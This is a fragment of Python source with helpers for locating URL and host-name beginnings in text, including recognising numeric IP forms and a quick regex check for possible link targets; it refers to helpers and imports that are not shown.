"""Address beginnings: required characters (quick), pattern, and start of a match."""


def _include_slashes(text: str, start: int) -> int:
    """Moves an offset before the slashes that precede it."""
    while start and text[start - 1] in "/\\":
        start -= 1
    return start


def _is_number(host: str, *, slashes: bool) -> bool:
    """Says whether readers of addresses take a number for a host."""
    if host.startswith("["):
        return host.count(":") > 1
    parts = host.split(".")
    values = [_value(part) for part in parts]
    if len(parts) == 4:
        return all(value < 256 for value in values[:3])
    if any(part.lower().startswith("0x") for part in parts):
        return values[-1] > 255
    return values[-1] >= (1 << 24 if slashes else 10**8) if len(parts) == 1 else values[-1] > 255


def _value(part: str) -> int:
    """Parses one part of a number: decimal, octal or hexadecimal."""
    part = part.lower()
    if part.startswith("0x"):
        return int(part, 16)
    return int(part, 8) if part[0] == "0" and part.strip("01234567") == "" else int(part)


def _find_names(text: str, low: int, *, called: bool) -> Iterator[tuple[int, int]]:
    """Yields spans of host names without path or port.

    Args:
        text: the text.
        low: offset to begin at.
        called: True if a bracket follows the text, so that `user.elena.save` is a function.
    """
    plain = text.translate(_WIDE)
    for match in _HOST.finditer(plain, low):
        last, labels = _find_last_label(match["host"])
        user = match.start() < match.start("host")
        called_so = called and match.end() == len(plain)
        plainly = user or last in _PLAIN_ENDS or (labels > 2 and not called_so)
        if last and labels > 1 and plainly and not _is_path(plain, match.start()):
            yield match.start(), match.end("host")


def may_hold_target(text: str) -> bool:
    """Says whether a text may contain a target; quick, never wrongly False."""
    return _ANY.search(text) is not None


_ANY = re.compile(
    r"\]\(|\]:|<[A-Za-z]|//|[:@]\S|www|[^\s.]\.[^\s.]|[.。．｡．﹒․%&\\]\S|\d/", re.IGNORECASE
)
